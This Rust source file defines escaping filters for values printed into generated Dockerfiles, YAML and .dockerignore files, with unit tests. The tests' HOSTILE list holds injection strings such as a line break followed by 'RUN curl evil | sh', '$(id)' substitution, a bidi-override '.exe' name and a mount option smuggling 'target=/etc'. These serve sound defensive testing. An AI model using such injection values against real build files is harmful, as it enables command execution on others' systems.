//! The escaping filters: one per context a value can land in. Every value that comes from
//! the project reaches a generated file only through the filter of the place it is printed.
//!
//! Each filter is the identity on the plain values real projects have (names, versions, paths,
//! image references), so it changes nothing there; what it changes is hostile text: line
//! breaks (including `\r`, NEL, U+2028 and U+2029, which some parsers and editors treat as
//! line breaks), quotes, `$`, backslashes, comment and negation marks, NUL. Where a context
//! cannot carry a character at all (a line break in a shell word of a `RUN` line), the filter
//! refuses it: `decide` rejects such values first, so reaching that error is our bug.

use minijinja::{Error, ErrorKind, Value};

/// Whether `ch` ends a line, or looks like it does, for some reader of the file: control
/// characters (`\n`, `\r`, NUL, NEL U+0085, ...) and the Unicode line and paragraph separators.
fn breaks_lines(ch: char) -> bool {
    ch.is_control() || matches!(ch, '\u{2028}' | '\u{2029}')
}

/// Characters that reorder how a line displays (bidirectional embeddings, overrides and
/// isolates), so a comment reads as something else than it is.
fn reorders_display(ch: char) -> bool {
    matches!(ch, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn refuse(context: &str, value: &str) -> Error {
    Error::new(
        ErrorKind::InvalidOperation,
        format!(
            "{context} cannot hold {}: it must have been rejected before rendering",
            serde_json::to_string(value).unwrap_or_default()
        ),
    )
}

/// Text after `#` in a Dockerfile (also a YAML or `.dockerignore` comment): one line. Line
/// breaks and control characters become spaces, so nothing after them becomes an instruction.
pub fn comment(text: &str) -> String {
    text.chars()
        .map(|ch| {
            if breaks_lines(ch) || reorders_display(ch) {
                ' '
            } else {
                ch
            }
        })
        .collect()
}

/// A Dockerfile `LABEL` value, quotes included. Inside double quotes the Dockerfile expands
/// `$` and reads `\` as an escape, so both (and `"`) are escaped; a line break would end the
/// instruction, so line breaks and control characters become spaces.
pub fn label_value(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for ch in text.chars() {
        match ch {
            '\\' | '"' | '$' => {
                out.push('\\');
                out.push(ch);
            }
            ch if breaks_lines(ch) => out.push(' '),
            ch => out.push(ch),
        }
    }
    out.push('"');
    out
}

/// Characters JSON leaves raw that YAML must not see raw (DEL and C1 controls are not
/// printable in YAML; YAML 1.1 folds NEL, U+2028 and U+2029 like line breaks) and that make a
/// Dockerfile line display as something else. Written as `\uXXXX`, which JSON and YAML's double
/// quoted scalars decode to the same character.
fn escape_invisible(json: String) -> String {
    if !json.chars().any(needs_unicode_escape) {
        return json;
    }
    let mut out = String::with_capacity(json.len() + 16);
    for ch in json.chars() {
        if needs_unicode_escape(ch) {
            out.push_str(&format!("\\u{:04x}", ch as u32));
        } else {
            out.push(ch);
        }
    }
    out
}

fn needs_unicode_escape(ch: char) -> bool {
    matches!(
        ch,
        '\u{7f}'..='\u{9f}' | '\u{2028}' | '\u{2029}' | '\u{feff}'
    ) || reorders_display(ch)
}

/// A Dockerfile exec form (`ENTRYPOINT`, `HEALTHCHECK CMD`): a JSON array of strings, which
/// the Dockerfile parses as JSON and never expands. JSON escaping (quotes, backslashes,
/// control characters), plus `\uXXXX` for what would display as a line break.
pub fn exec_form(args: &[String]) -> Result<String, Error> {
    serde_json::to_string(args)
        .map(escape_invisible)
        .map_err(|error| Error::new(ErrorKind::InvalidOperation, error.to_string()))
}

/// One word for a POSIX shell, also read the same by the Dockerfile's own word splitting
/// (`ENV`, `WORKDIR`, `COPY`, `FROM`): as is when it holds only characters no shell
/// interprets, otherwise in single quotes, inside which only `'` needs care. A Dockerfile
/// instruction ends at a line break whatever the quotes, and no argument can hold NUL, so those
/// are refused.
pub fn shell_word(word: &str) -> Result<String, Error> {
    if word.chars().any(breaks_lines) {
        return Err(refuse("a shell word", word));
    }
    let plain = !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_@%+=:,./-".contains(&b));
    if plain {
        return Ok(word.to_string());
    }
    Ok(format!("'{}'", word.replace('\'', r"'\''")))
}

/// A YAML scalar: JSON (a JSON string is a YAML double-quoted scalar, numbers and booleans
/// read the same), with `\uXXXX` for what YAML must not see raw.
pub fn yaml_scalar(value: &Value) -> Result<String, Error> {
    serde_json::to_string(value)
        .map(escape_invisible)
        .map_err(|error| Error::new(ErrorKind::BadSerialization, error.to_string()))
}

/// A YAML scalar printed plain (a mapping key, a list item) when YAML reads it back as the same
/// string: letters, digits and `._/-`, starting with a letter or `/` (so never a number), and
/// none of the words YAML 1.1 reads as a boolean or null. Anything else is quoted as
/// [`yaml_scalar`] quotes it.
pub fn yaml_plain(text: &str) -> Result<String, Error> {
    const SPECIAL: &[&str] = &["y", "n", "yes", "no", "true", "false", "on", "off", "null"];
    let plain = text.starts_with(|ch: char| ch.is_ascii_alphabetic() || ch == '/')
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'/' | b'-'))
        && !SPECIAL.contains(&text.to_ascii_lowercase().as_str());
    if plain {
        Ok(text.to_string())
    } else {
        yaml_scalar(&Value::from(text))
    }
}

/// A value in a Dockerfile `--mount=` option (`source=`, `target=`, `id=`). BuildKit reads the
/// option as comma-separated `key=value` fields, so a value holding `,`, `=`, a quote or a
/// space would change the mount; decide lets through only paths and ids without them, and
/// anything else is refused here.
pub fn mount_value(value: &str) -> Result<String, Error> {
    let plain = !value.is_empty()
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'/' | b'-'));
    if plain {
        Ok(value.to_string())
    } else {
        Err(refuse("a `--mount` value", value))
    }
}

/// A `.dockerignore` line that matches exactly the path `path`. The reader skips lines that
/// start with `#`, negates those that start with `!`, trims spaces at either end and matches
/// `*`, `?` and `[...]` as patterns, `\` escaping the next character; so those are escaped,
/// and what a line cannot hold (a line break, spaces at an end) is refused.
pub fn dockerignore_line(path: &str) -> Result<String, Error> {
    if path.is_empty()
        || path.chars().any(breaks_lines)
        || path.starts_with(char::is_whitespace)
        || path.ends_with(char::is_whitespace)
    {
        return Err(refuse("a `.dockerignore` line", path));
    }
    let mut out = String::with_capacity(path.len());
    if path.starts_with(['#', '!']) {
        out.push('\\');
    }
    for ch in path.chars() {
        if matches!(ch, '\\' | '*' | '?' | '[' | ']') {
            out.push('\\');
        }
        out.push(ch);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What each escaper must handle, one hostile feature at a time.
    const HOSTILE: &[&str] = &[
        "line\nRUN curl evil | sh",
        "carriage\rRUN curl evil | sh",
        "nul\0byte",
        "next\u{85}line",
        "line\u{2028}separator",
        "paragraph\u{2029}separator",
        "double \" quote",
        "single ' quote",
        "dollar $HOME ${HOME} $(id)",
        "back\\slash",
        "hash # comment",
        "bang !history",
        "\u{202e}gnp.exe",
    ];

    /// The plain values real projects have: every escaper leaves them as they are.
    const PLAIN: &[&str] = &[
        "cli-hello",
        "0.1.0",
        "/app",
        "packages/api/pyproject.toml",
        "ghcr.io/astral-sh/uv:0.13.9@sha256:0123456789abcdef",
        "python3.13",
        "g++",
        "linux/amd64",
        "rw,nosuid,nodev,size=64m,uid=65532",
    ];

    fn no_line_breaks(text: &str) -> bool {
        !text
            .chars()
            .any(|ch| breaks_lines(ch) || reorders_display(ch))
    }

    #[test]
    fn comment_stays_on_its_line() {
        for hostile in HOSTILE {
            let escaped = comment(hostile);
            assert!(no_line_breaks(&escaped), "{hostile:?} -> {escaped:?}");
        }
        assert_eq!(
            comment("a\nRUN b\r\nc\u{2028}d\u{85}e\0f"),
            "a RUN b  c d e f"
        );
        for plain in PLAIN {
            assert_eq!(comment(plain), *plain);
        }
    }

    #[test]
    fn label_value_is_one_quoted_string_without_expansion() {
        assert_eq!(
            label_value("a \"b\" $(c) ${d} \\e"),
            r#""a \"b\" \$(c) \${d} \\e""#
        );
        assert_eq!(label_value("a\nLABEL b=c\r\u{2028}"), r#""a LABEL b=c  ""#);
        // A trailing backslash must not escape the closing quote or continue the line.
        assert_eq!(label_value("end\\"), r#""end\\""#);
        for hostile in HOSTILE {
            let escaped = label_value(hostile);
            assert!(
                !escaped.chars().any(breaks_lines),
                "{hostile:?} -> {escaped:?}"
            );
            let inner = &escaped[1..escaped.len() - 1];
            let mut chars = inner.chars();
            while let Some(ch) = chars.next() {
                match ch {
                    '\\' => assert!(matches!(chars.next(), Some('\\' | '"' | '$'))),
                    '"' | '$' => panic!("unescaped {ch:?} in {escaped:?}"),
                    _ => {}
                }
            }
        }
        for plain in PLAIN {
            assert_eq!(label_value(plain), format!("\"{plain}\""));
        }
    }

    #[test]
    fn exec_form_is_json_that_decodes_to_the_arguments() {
        let args: Vec<String> = HOSTILE.iter().map(|s| s.to_string()).collect();
        let escaped = exec_form(&args).unwrap();
        assert!(no_line_breaks(&escaped), "{escaped:?}");
        let decoded: Vec<String> = serde_json::from_str(&escaped).unwrap();
        assert_eq!(decoded, args);
        assert_eq!(
            exec_form(&["a\u{2028}b".into(), "c\u{85}".into()]).unwrap(),
            r#"["a\u2028b","c\u0085"]"#
        );
        let plain: Vec<String> = PLAIN.iter().map(|s| s.to_string()).collect();
        assert_eq!(
            exec_form(&plain).unwrap(),
            format!("[\"{}\"]", PLAIN.join("\",\""))
        );
    }

    /// What `sh` reads back from a word: quotes removed, `'\''` for a quote inside them.
    fn unquote(word: &str) -> Option<String> {
        let mut out = String::new();
        let mut quoted = false;
        let mut chars = word.chars();
        while let Some(ch) = chars.next() {
            match (ch, quoted) {
                ('\'', _) => quoted = !quoted,
                ('\\', false) => out.push(chars.next()?),
                (ch, true) => out.push(ch),
                (ch, false) if ch.is_ascii_alphanumeric() || "_@%+=:,./-".contains(ch) => {
                    out.push(ch)
                }
                _ => return None,
            }
        }
        (!quoted).then_some(out)
    }

    #[test]
    fn shell_word_is_one_word_that_reads_back_as_itself() {
        for hostile in HOSTILE {
            if hostile.chars().any(breaks_lines) {
                assert!(shell_word(hostile).is_err(), "{hostile:?}");
            } else {
                let escaped = shell_word(hostile).unwrap();
                assert_eq!(
                    unquote(&escaped).as_deref(),
                    Some(*hostile),
                    "{hostile:?} -> {escaped:?}"
                );
            }
        }
        assert_eq!(shell_word("it's $HOME").unwrap(), r"'it'\''s $HOME'");
        assert_eq!(shell_word("").unwrap(), "''");
        for refused in [
            "a\nb",
            "a\rb",
            "a\0b",
            "a\u{85}b",
            "a\u{2028}b",
            "a\u{2029}b",
        ] {
            assert!(shell_word(refused).is_err(), "{refused:?}");
        }
        for plain in PLAIN {
            assert_eq!(shell_word(plain).unwrap(), *plain);
        }
    }

    #[test]
    fn yaml_scalar_is_a_double_quoted_scalar_without_raw_breaks() {
        for hostile in HOSTILE {
            let escaped = yaml_scalar(&Value::from(*hostile)).unwrap();
            assert!(escaped.starts_with('"') && escaped.ends_with('"'));
            assert!(no_line_breaks(&escaped), "{hostile:?} -> {escaped:?}");
            let decoded: String = serde_json::from_str(&escaped).unwrap();
            assert_eq!(decoded, *hostile);
        }
        assert_eq!(
            yaml_scalar(&Value::from("a\u{2028}b\u{85}c\u{7f}")).unwrap(),
            r#""a\u2028b\u0085c\u007f""#
        );
        assert_eq!(yaml_scalar(&Value::from(8000)).unwrap(), "8000");
        assert_eq!(yaml_scalar(&Value::from(true)).unwrap(), "true");
        for plain in PLAIN {
            assert_eq!(
                yaml_scalar(&Value::from(*plain)).unwrap(),
                format!("\"{plain}\"")
            );
        }
    }

    #[test]
    fn yaml_plain_is_plain_only_when_it_reads_back_as_the_same_string() {
        for plain in [
            "ALL",
            "/tmp",
            "uv-index-private-username",
            "app.kubernetes.io/name",
        ] {
            assert_eq!(yaml_plain(plain).unwrap(), plain);
        }
        for quoted in [
            "yes", "No", "on", "null", "true", "8000", "0o17", "1e3", ".inf", "-", "~", "",
        ] {
            assert_eq!(
                yaml_plain(quoted).unwrap(),
                yaml_scalar(&Value::from(quoted)).unwrap(),
                "{quoted:?}"
            );
        }
        for hostile in HOSTILE {
            let escaped = yaml_plain(hostile).unwrap();
            let decoded: String = serde_json::from_str(&escaped).unwrap();
            assert_eq!(decoded, *hostile);
        }
    }

    #[test]
    fn mount_value_refuses_what_changes_the_mount() {
        for plain in [
            "packages/api/pyproject.toml",
            "uv-index-private-username",
            "/app",
        ] {
            assert_eq!(mount_value(plain).unwrap(), plain);
        }
        for refused in [
            "a,target=/etc",
            "a=b",
            "a\"b",
            "a b",
            "a\nb",
            "a\0b",
            "a\u{2028}b",
            "$HOME",
            "",
        ] {
            assert!(mount_value(refused).is_err(), "{refused:?}");
        }
        for hostile in HOSTILE {
            assert!(mount_value(hostile).is_err(), "{hostile:?}");
        }
    }

    #[test]
    fn dockerignore_line_matches_only_its_path() {
        assert_eq!(dockerignore_line("#Dockerfile").unwrap(), r"\#Dockerfile");
        assert_eq!(
            dockerignore_line("!compose.yaml").unwrap(),
            r"\!compose.yaml"
        );
        assert_eq!(
            dockerignore_line(r"k8s/*.yaml?[x]\").unwrap(),
            r"k8s/\*.yaml\?\[x\]\\"
        );
        assert_eq!(dockerignore_line("a#b!c$d").unwrap(), "a#b!c$d");
        for refused in [
            "",
            " leading",
            "trailing ",
            "a\nb",
            "a\rb",
            "a\0b",
            "a\u{85}b",
            "a\u{2028}b",
        ] {
            assert!(dockerignore_line(refused).is_err(), "{refused:?}");
        }
        for plain in PLAIN {
            assert_eq!(dockerignore_line(plain).unwrap(), *plain);
        }
    }
}
